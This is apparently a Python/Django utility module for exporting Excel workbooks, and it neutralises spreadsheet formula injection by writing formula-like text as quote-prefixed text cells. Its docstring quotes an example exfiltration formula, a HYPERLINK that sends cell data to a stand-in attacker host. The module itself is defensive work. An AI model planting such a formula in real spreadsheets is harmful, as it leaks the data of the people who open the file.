"""Writing Excel workbooks whose text stays text. Every export (the archive, a fair's report,
reports to come) writes its rows through ``append_row``.

Text people typed (a skill phrase, an address, a company name) can begin with a character that a
spreadsheet reads as the start of a formula: ``=``, ``+``, ``-``, ``@``, or a tab or carriage
return before one. openpyxl stores a string beginning with ``=`` as a formula, which Excel runs
when the file is opened (``=HYPERLINK("http://evil.example/?"&A1, "点击")`` sends the row away);
the others become formulas as soon as someone edits the cell. Such a cell is written as a text
cell with Excel's "quote prefix" set: it shows exactly what was typed, stays text when edited, and
reads back unchanged when the file is imported again (no apostrophe is added to the value).

Characters that an .xlsx file cannot hold at all (control characters other than tab, line feed
and carriage return) are dropped instead of failing the whole export.
"""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet may take as the start of a formula (OWASP's list, with tab and CR).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def new_workbook() -> Workbook:
    """A write-only workbook (rows stream to the file; memory stays flat for large exports)."""
    return Workbook(write_only=True)


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    """``value`` as the sheet should receive it: text that could be read as a formula becomes a
    text cell with the quote prefix; other values pass unchanged."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if is_formula_like(value):
            text = Cell(worksheet=sheet, column=1, row=1)  # type: ignore[arg-type]
            text._value = value  # set directly: assigning ``value`` would make "=..." a formula
            text.data_type = "s"
            text.quotePrefix = True
            return text
    return value


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row to a sheet (write-only or not), its text cells kept as text."""
    sheet.append([cell(sheet, value) for value in values])


def workbook_bytes(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_download(content: bytes, filename: str) -> HttpResponse:
    """A workbook as a download. The name is ours (ASCII, no quotes), never typed by a user."""
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
